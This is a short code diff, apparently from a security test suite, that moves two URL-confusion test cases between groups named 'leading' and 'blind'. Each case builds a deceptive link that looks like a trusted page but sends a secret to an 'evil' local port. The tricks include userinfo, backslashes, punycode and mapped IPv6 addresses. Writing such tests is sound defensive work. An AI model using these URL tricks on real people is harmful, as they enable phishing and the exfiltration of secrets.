@@ -97,10 +97,6 @@ function ids(): Attack[] {
 /** Addresses that look like the person's page and lead elsewhere. */
 function hosts(): Attack[] {
   const leading: Readonly<Record<string, (scene: Scene) => string>> = {
-    "userinfo of a good host": ({ outside, secret }) =>
-      `http://127.0.0.1:${outside.port("pages")}@127.0.0.1:${outside.port("evil")}/?q=${secret}`,
-    "userinfo with a password": ({ outside, secret }) =>
-      `http://${secret}:x@127.0.0.1:${outside.port("evil")}/`,
     "a backslash": ({ outside, secret }) =>
       `http://127.0.0.1:${outside.port("evil")}\\@127.0.0.1:${outside.port("pages")}/?q=${secret}`,
     "a number for an address": ({ outside, secret }) =>
@@ -120,6 +116,10 @@ function hosts(): Attack[] {
       `HTTP://127.0.0.1:${outside.port("evil")}/?q=${secret}`,
   };
   const blind: Readonly<Record<string, (scene: Scene) => string>> = {
+    "userinfo of a good host": ({ outside, secret }) =>
+      `http://127.0.0.1:${outside.port("pages")}@127.0.0.1:${outside.port("evil")}/?q=${secret}`,
+    "userinfo with a password": ({ outside, secret }) =>
+      `http://${secret}:x@127.0.0.1:${outside.port("evil")}/`,
     "a name in punycode": ({ secret }) => `https://xn--pple-43d.invalid/?q=${secret}`,
     "a mapped address": ({ outside, secret }) =>
       `http://[::ffff:127.0.0.1]:${outside.port("evil")}/?q=${secret}`,
